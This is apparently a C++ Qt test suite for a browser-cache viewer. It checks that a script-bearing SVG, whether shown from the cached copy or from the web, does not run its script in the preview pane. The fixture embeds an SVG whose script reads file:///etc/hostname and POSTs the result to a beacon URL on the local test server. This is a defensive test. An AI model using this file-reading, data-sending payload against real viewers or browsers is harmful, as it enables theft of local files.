// A picture in the browser's cache that carries script: tidecove's preview shows it, from the cached copy
// or from the web, and the script never runs. Headless Chromium writes the cache; the window is the
// real one, its preview zone a real Qt WebEngine view (offscreen).
#include <QApplication>
#include <QLineEdit>
#include <QPushButton>
#include <QRadioButton>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineSettings>
#include <QWebEngineView>

#include "CachingHttpServer.h"
#include "ChromiumCacheRun.h"
#include "PictureFixture.h"
#include "cacheviewer/ViewerWindow.h"
#include "common/ProgramDir.h"
#include "platform/browsercache/DiskBrowserCache.h"
#include "platform/desktop/QtDesktop.h"
#include "platform/webzone/ScriptRunner.h"
#include "platform/webzone/SilentPage.h"
#include "platform/webzone/WebZone.h"
#include "support/ChromiumProcess.h"

using namespace vorlaken;
using namespace vorlaken::test;

namespace {

const QString kSvgPath = QStringLiteral("/pics/evil.svg");

// Reads a local file if it may, then tells the server that it ran and what it read.
QByteArray scriptedSvg(const CachingHttpServer& server) {
    return QStringLiteral(
               "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"30\">"
               "<rect width=\"40\" height=\"30\" fill=\"red\"/><script>"
               "var x=new XMLHttpRequest(),t='';"
               "try{x.open('GET','file:///etc/hostname',false);x.send();t=x.responseText;}catch(e){}"
               "fetch('%1',{mode:'no-cors',cache:'no-store'});"
               "fetch('%2',{method:'POST',mode:'no-cors',cache:'no-store',body:t});"
               "</script></svg>")
        .arg(server.url(QStringLiteral("/ran")), server.url(QStringLiteral("/beacon")))
        .toUtf8();
}

}  // namespace

class CachedScriptsTest : public QObject {
    Q_OBJECT

  private slots:
    void initTestCase();
    void cleanupTestCase();
    void cachedCopyRunsNoScript();
    void webPictureRunsNoScript();

  private:
    // A view with the settings the preview had before: script on, local and remote access granted.
    // It shows that the picture's script does run and reach the server where it is allowed to.
    void expectScriptRunsInAnOpenView(const QString& address);
    WebZone* preview() const { return dynamic_cast<WebZone*>(window_->zone(QStringLiteral("wb2"))); }
    template <typename T>
    T* control(const char* name) const {
        return window_->findChild<T*>(QString::fromLatin1(name));
    }

    QTemporaryDir root_;
    CachingHttpServer server_;
    QtDesktop desktop_;
    ViewerWindow* window_ = nullptr;
};

void CachedScriptsTest::initTestCase() {
    QVERIFY2(ChromiumProcess::available(), "Chromium is not installed (/usr/bin/chromium).");
    QVERIFY(server_.listen());
    PictureFixture fixture;
    fixture.pictures = {{kSvgPath, scriptedSvg(server_)}};
    server_.add(kSvgPath, {200, "image/svg+xml", fixture.pictures.value(kSvgPath)});
    server_.add(fixture.pagePath, {200, "text/html",
                                   "<html><body><img src=\"" + kSvgPath.toLatin1() + "\"><img src=\"" +
                                       fixture.missingPath.toLatin1() + "\"></body></html>"});
    const QString cache = root_.path() + QStringLiteral("/cache");
    const QString failure = RunChromiumOnFixture(server_, fixture, cache);
    QVERIFY2(failure.isEmpty(), qPrintable(failure));
    // In Chromium's own page the picture was shown through <img>: its script never ran.
    QCOMPARE(server_.hits(QStringLiteral("/ran")), 0);

    qputenv("TIDEWELL_CACHE", cache.toLocal8Bit());
    qputenv("XDG_CACHE_HOME", (root_.path() + QStringLiteral("/xdg")).toLocal8Bit());
    const QString program = root_.path() + QStringLiteral("/program/");
    window_ = new ViewerWindow(ProgramDir(program, program), CreateBrowserCache({}), desktop_);
    window_->show();
    QVERIFY(preview());

    control<QLineEdit>("extEdit")->setText(QStringLiteral("svg"));
    control<QPushButton>("Button1")->click();
    QCOMPARE(window_->state().foundUrls, QStringList{server_.url(kSvgPath)});
}

void CachedScriptsTest::cleanupTestCase() {
    delete window_;
}

void CachedScriptsTest::expectScriptRunsInAnOpenView(const QString& address) {
    const int before = server_.hits(QStringLiteral("/ran"));
    // A profile of its own, so that nothing comes from a cache the other views filled.
    QWebEngineProfile profile;
    QWebEngineView open;
    auto* page = new QWebEnginePage(&profile, &open);
    open.setPage(page);
    page->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls, true);
    page->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls, true);
    open.show();
    open.load(QUrl::fromUserInput(address));
    QTRY_VERIFY_WITH_TIMEOUT(server_.hits(QStringLiteral("/ran")) > before, 30000);
    QTRY_VERIFY_WITH_TIMEOUT(server_.hits(QStringLiteral("/beacon")) > 0, 30000);
}

// "local cached" is the default: the preview opens the copied-out file itself.
void CachedScriptsTest::cachedCopyRunsNoScript() {
    QSignalSpy done(preview(), &WebZone::documentComplete);
    window_->clickListItem(0);
    QVERIFY(done.wait(30000));
    const QString local = window_->state().foundFiles.value(0);
    QCOMPARE(preview()->locationUrl(), QUrl::fromLocalFile(local).toString());
    QVERIFY(local.endsWith(QStringLiteral(".svg")));
    // The picture is shown.
    QCOMPARE(
        ScriptRunner(preview()->page()).run(QStringLiteral("return document.documentElement.localName;")),
        QJsonValue(QStringLiteral("svg")));

    // The same file in a view that lets it run reaches the server; by then the preview's would have.
    expectScriptRunsInAnOpenView(local);
    QCOMPARE(server_.hits(QStringLiteral("/ran")), 1);
    QCOMPARE(server_.hits(QStringLiteral("/beacon")), 1);
}

// "website picture" opens the address itself: the picture's script does not run there either.
void CachedScriptsTest::webPictureRunsNoScript() {
    const int ran = server_.hits(QStringLiteral("/ran"));
    const int served = server_.hits(kSvgPath);
    QSignalSpy done(preview(), &WebZone::documentComplete);
    control<QRadioButton>("RadioButton2")->click();
    QVERIFY(done.wait(30000));
    QCOMPARE(preview()->locationUrl(), server_.url(kSvgPath));
    QCOMPARE(server_.hits(kSvgPath), served + 1);

    expectScriptRunsInAnOpenView(server_.url(kSvgPath));
    QCOMPARE(server_.hits(QStringLiteral("/ran")), ran + 1);
}

QTEST_MAIN(CachedScriptsTest)
#include "tst_cachedscripts.moc"
